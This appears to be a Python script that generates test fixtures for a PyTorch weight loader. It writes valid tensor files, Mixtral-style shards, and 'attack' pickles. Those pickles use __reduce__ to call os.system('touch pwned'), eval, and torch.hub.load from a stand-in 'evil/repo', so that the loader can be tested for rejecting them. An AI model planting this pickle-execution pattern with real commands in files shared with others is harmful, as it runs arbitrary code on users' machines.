#!/usr/bin/env python3
"""Makes small .pth files with torch.save, sound ones and attacks.

    python3 loader/weights/testdata/make.py     (needs torch)

sound.pth          every dtype, a transposed matrix, views of one storage, a Parameter, an OrderedDict
attack-*.pth       pickles that would run something, and archives that torch.load takes or once took
mixtral/           params.json and three shards as the first Mixtral release had them: each has other tensors,
                   experts are stacked, the second of their three matrices is transposed
expect.json        values of some tensors of sound.pth and mixtral/, as float32
"""

import collections
import json
import os
import pathlib
import pickle
import zipfile

import torch

OUT = pathlib.Path(__file__).parent


class Call:
    """Pickles as a call of a function."""

    def __init__(self, fn, *args):
        self.call = fn, args

    def __reduce__(self):
        return self.call


def repack(name, source, method=zipfile.ZIP_STORED, replace=None):
    """Writes the files of an archive anew."""
    with zipfile.ZipFile(OUT / source) as a, zipfile.ZipFile(OUT / name, "w", method) as b:
        for i in a.infolist():
            data = a.read(i)
            if replace and i.filename.endswith("data.pkl"):
                data = replace
            info = zipfile.ZipInfo(i.filename)
            info.compress_type = method
            b.writestr(info, data)


def sound(gen):
    """A dict of tensors of all kinds."""
    base = torch.randn(4, 6, generator=gen)
    out = collections.OrderedDict()
    for name, dtype in [("f32", torch.float32), ("f16", torch.float16), ("bf16", torch.bfloat16), ("f64", torch.float64),
                        ("i64", torch.int64), ("i32", torch.int32), ("u8", torch.uint8), ("bool", torch.bool)]:
        out[name] = (base * 3).to(dtype)
    out["turned"] = torch.randn(5, 3, generator=gen).half().T
    out["view"] = base[1:3]
    out["row"] = base[2]
    out["whole"] = base
    out["scalar"] = torch.tensor(2.5)
    out["empty"] = torch.zeros(0, 7)
    out["parameter"] = torch.nn.Parameter(torch.randn(3, generator=gen))
    out._metadata = {"": {"version": 1}}
    return out


def mixtral(gen):
    """Three shards of one layer with two experts."""
    dim, ffn, experts = 8, 6, 2
    def rand(*shape):
        return torch.randn(*shape, generator=gen).bfloat16()
    folder = OUT / "mixtral"
    folder.mkdir(exist_ok=True)
    gate = rand(experts, dim)
    w = {k: rand(experts * ffn, dim) for k in ("w1", "w2", "w3")}
    attention = {f"layers.0.attention.{k}.weight": rand(dim, dim) for k in ("wq", "wk", "wv", "wo")}
    norms = {k: rand(dim) for k in ("norm.weight", "layers.0.attention_norm.weight", "layers.0.ffn_norm.weight")}
    torch.save({"tok_embeddings.weight": rand(10, dim), **norms}, folder / "consolidated.00.pt")
    torch.save({**attention, "layers.0.block_sparse_moe.gate.weight": gate}, folder / "consolidated.01.pt")
    torch.save({**{f"layers.0.block_sparse_moe.{k}": v for k, v in w.items()}, "output.weight": rand(10, dim)},
               folder / "consolidated.02.pt")
    (folder / "params.json").write_text(json.dumps({"dim": dim, "moe": {"num_experts": experts, "num_experts_per_tok": 1}}) + "\n")
    expect = {}
    for e in range(experts):
        rows = slice(e * ffn, (e + 1) * ffn)
        for k, v in w.items():
            expert = v[rows].T if k == "w2" else v[rows]
            expect[f"model.layers.0.block_sparse_moe.experts.{e}.{k}.weight"] = expert.float().tolist()
    expect["model.layers.0.block_sparse_moe.gate.weight"] = gate.float().tolist()
    return expect


def main():
    """Writes all of it beside this file."""
    gen = torch.Generator().manual_seed(9)
    tensors = sound(gen)
    torch.save(tensors, OUT / "sound.pth")
    expect = {k: v.detach().float().tolist() for k, v in tensors.items() if v.dim() == 2 and v.is_floating_point()}
    torch.save({"w": Call(os.system, "touch pwned")}, OUT / "attack-system.pth")
    torch.save({"w": Call(eval, "1+1")}, OUT / "attack-eval.pth")
    torch.save({"w": Call(getattr, "x", "upper")}, OUT / "attack-getattr.pth")
    torch.save({"w": Call(torch.hub.load, "evil/repo", "m")}, OUT / "attack-hub.pth")
    torch.save({"model": {"w": torch.ones(2)}}, OUT / "attack-nested.pth")
    torch.save({"w": torch.ones(3, 4)[:, 1:3]}, OUT / "attack-strided.pth")
    torch.save({"w": torch.ones(2)}, OUT / "attack-old.pth", _use_new_zipfile_serialization=False)
    repack("attack-deflated.pth", "sound.pth", zipfile.ZIP_DEFLATED)
    repack("attack-protocol0.pth", "sound.pth", replace=pickle.dumps({"w": Call(os.system, "touch pwned")}, 0))
    repack("attack-protocol4.pth", "sound.pth", replace=pickle.dumps({"w": Call(os.system, "touch pwned")}, 4))
    (OUT / "expect.json").write_text(json.dumps(expect | mixtral(gen)) + "\n")


if __name__ == "__main__":
    main()
